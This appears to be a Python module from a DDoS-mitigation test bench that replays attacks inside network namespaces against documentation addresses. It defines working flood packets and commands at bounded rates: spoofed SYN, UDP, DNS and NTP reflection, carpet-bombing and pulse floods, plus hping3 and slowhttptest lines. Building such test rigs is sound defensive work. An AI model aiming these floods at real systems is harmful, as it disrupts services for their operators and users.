"""The attacks: packet descriptions for trafgen, command lines for hping3 and slowhttptest, each with a bounded rate.

An attack is a list of bursts; a burst is commands that run together, the seconds that they run, and the pause after it.
"""

import contextlib
import os
import signal
import subprocess
import threading
import time
from dataclasses import dataclass

from addresses import ACME, ATTACKER4, INET
import namespaces
from processes import in_front

EDGE, INTERNET = INET.ends
ETH = f"eth(da={EDGE.mac}, sa={INTERNET.mac})"
SPOOFED4 = "sa=198.19.0.0, sa[2]=drnd(), sa[3]=drnd()"
SPOOFED6 = "sa=2001:db8:f:a::1, sa[12:4]=drnd()"

# name -> (what it is, packets for trafgen). Sizes are of the kind seen in the wild.
FLOODS = {
    "syn": ("TCP SYN flood, spoofed sources, the web server's port",
            [f"{{ {ETH}, ipv4({SPOOFED4}, da={ACME.web4}, ttl=60, id=drnd()),"
             " tcp(sport=drnd(1024, 65535), dport=80, seq=drnd(), syn, window=64240) }"]),
    "syn6": ("TCP SYN flood over IPv6, spoofed sources",
             [f"{{ {ETH}, ipv6({SPOOFED6}, da={ACME.web6}, hoplimit=60),"
              " tcp(sport=drnd(1024, 65535), dport=80, seq=drnd(), syn, window=64240) }"]),
    "udp": ("UDP flood, spoofed sources, random ports",
            [f"{{ {ETH}, ipv4({SPOOFED4}, da={ACME.web4}, ttl=60), udp(sport=drnd(1024, 65535), dport=drnd(1024, 65535)),"
             " fill('A', 400) }"]),
    "dns": ("DNS reflection: large answers that nobody asked for",
            [f"{{ {ETH}, ipv4({SPOOFED4}, da={ACME.web4}, ttl=60), udp(sport=53, dport=drnd(1024, 65535)),"
             " drnd(2), c16(0x8180), c16(1), c16(8), c16(0), c16(0), fill('A', 900) }"]),
    "ntp": ("NTP monlist reflection",
            [f"{{ {ETH}, ipv4({SPOOFED4}, da={ACME.web4}, ttl=60), udp(sport=123, dport=drnd(1024, 65535)),"
             " 0xd7, 0x00, 0x03, 0x2a, fill(0x00, 436) }"]),
    "carpet": ("carpet bombing: UDP over all 256 hosts of acme's /24, each under its own threshold",
               [f"{{ {ETH}, ipv4({SPOOFED4}, da=192.0.2.0, da[3]=dinc(0, 255), ttl=60),"
                " udp(sport=drnd(1024, 65535), dport=drnd(1024, 65535)), fill('A', 200) }"]),
}
# Pulse waves: the SYN flood in bursts with pauses shorter than a hold-down.
PULSE_ON_S, PULSE_OFF_S = 4.0, 3.0
HPINGS = 4
TOOLS = {
    "hping3": "TCP SYN flood by hping3 from one real host, its rate limited only by its timer",
    "slow": "slowhttptest: connections that send their headers byte by byte",
}
KINDS = {**{name: text for name, (text, _) in FLOODS.items()},
         "pulse": f"the SYN flood in pulses of {PULSE_ON_S:g} s every {PULSE_ON_S + PULSE_OFF_S:g} s", **TOOLS}


# trafgen sends a second's packets at once and then rests until the second is over. So several of them take turns, a
# tenth of a second apart, and the rate is smooth to that.
TURNS = 10


@dataclass(frozen=True)
class Burst:
    commands: list  # started one after the other, evenly over a second
    seconds: float
    pause_s: float = 0.0


def bursts(kind, rate_pps, seconds, run_dir):
    if kind == "pulse":
        rounds = max(1, round(seconds / (PULSE_ON_S + PULSE_OFF_S)))
        return [Burst(_trafgen("syn", rate_pps, PULSE_ON_S, run_dir), PULSE_ON_S, PULSE_OFF_S) for _ in range(rounds)]
    if kind in FLOODS:
        return [Burst(_trafgen(kind, rate_pps, seconds, run_dir), seconds)]
    if kind == "hping3":
        # hping3 waits whole microseconds between packets and wakes up late: several that wait longer come nearer to what
        # is asked, about three quarters of it.
        interval = max(1, round(1_000_000 / rate_pps * HPINGS))
        return [Burst([["hping3", "-q", "-S", "-p", "80", "-I", INTERNET.name, "-a", ATTACKER4, "-i", f"u{interval}",
                        ACME.web4]] * HPINGS, seconds)]
    if kind == "slow":
        return [Burst([["slowhttptest", "-H", "-c", "500", "-r", "100", "-i", "5", "-l", str(round(seconds)), "-x", "24",
                       "-u", f"http://{ACME.web4}/"]], seconds + 1)]
    raise ValueError(f"unknown attack '{kind}'; there are: {', '.join(KINDS)}")


def _trafgen(kind, rate_pps, seconds, run_dir):
    return trafgen(kind, FLOODS[kind][1], INTERNET.name, rate_pps, seconds, run_dir)


def trafgen(name, packets, device, rate_pps, seconds, run_dir):
    """Commands that together send these packets, in turn, from a device."""
    conf = f"{run_dir}/attack-{name}.cfg"
    with open(conf, "w", encoding="utf-8") as out:
        out.write("\n".join(packets) + "\n")
    # Leave the machine's socket buffers and interrupts alone; one process each, so that it ends as one.
    share = ["--rate", f"{max(1, round(rate_pps / TURNS))}pps", "--num", str(max(1, round(rate_pps * seconds / TURNS)))]
    command = ["trafgen", "--dev", device, "--conf", conf, *share, "--cpus", "1", "--no-sock-mem", "--notouch-irq",
               "--no-cpu-stats"]
    return [command] * TURNS


class Player:
    """Plays bursts in a namespace, in a thread; stop() ends it at once."""

    def __init__(self, ns, name, to_play, run_dir):
        self._bursts = to_play
        self._ns, self._log_path = ns, f"{run_dir}/log/attack-{name}.out"
        self._stopping, self._children = threading.Event(), []
        self._thread = threading.Thread(target=self._play, name=f"attack-{name}")

    def start(self):
        self._thread.start()
        return self

    def running(self):
        return self._thread.is_alive()

    def wait(self, timeout=None):
        self._thread.join(timeout)
        return not self._thread.is_alive()

    def stop(self):
        self._stopping.set()
        self._thread.join()

    def _play(self):
        with open(self._log_path, "ab") as log:
            for burst in self._bursts:
                deadline = time.monotonic() + burst.seconds
                try:
                    self._start(burst.commands, log)
                    self._await(deadline)
                finally:
                    self._end()
                if self._stopping.wait(burst.pause_s):
                    return

    def _start(self, commands, log):
        for number, command in enumerate(commands):
            if number and self._stopping.wait(1 / len(commands)):
                return
            self._children.append(subprocess.Popen(namespaces.enter_command(self._ns, command), stdin=subprocess.DEVNULL,
                                                   stdout=log, stderr=log, start_new_session=True, preexec_fn=in_front))

    def _await(self, deadline):
        """Until the burst's time is over, its packets are all sent, or stop() is called."""
        while time.monotonic() < deadline and not all(child.poll() is not None for child in self._children):
            if self._stopping.wait(0.02):
                return

    def _end(self):
        # The tools fork; the session of a command is the whole of it.
        for number, grace in ((signal.SIGTERM, 0.3), (signal.SIGKILL, 2)):
            for child in self._children:
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(child.pid, number)
            until = time.monotonic() + grace
            for child in self._children:
                with contextlib.suppress(subprocess.TimeoutExpired):
                    child.wait(max(0.0, until - time.monotonic()))
        self._children.clear()


class Attack(Player):
    """One attack of KINDS, from the internet's namespace."""

    def __init__(self, ns, kind, rate_pps, seconds, run_dir):
        self.kind = kind
        super().__init__(ns, kind, bursts(kind, rate_pps, seconds, run_dir), run_dir)
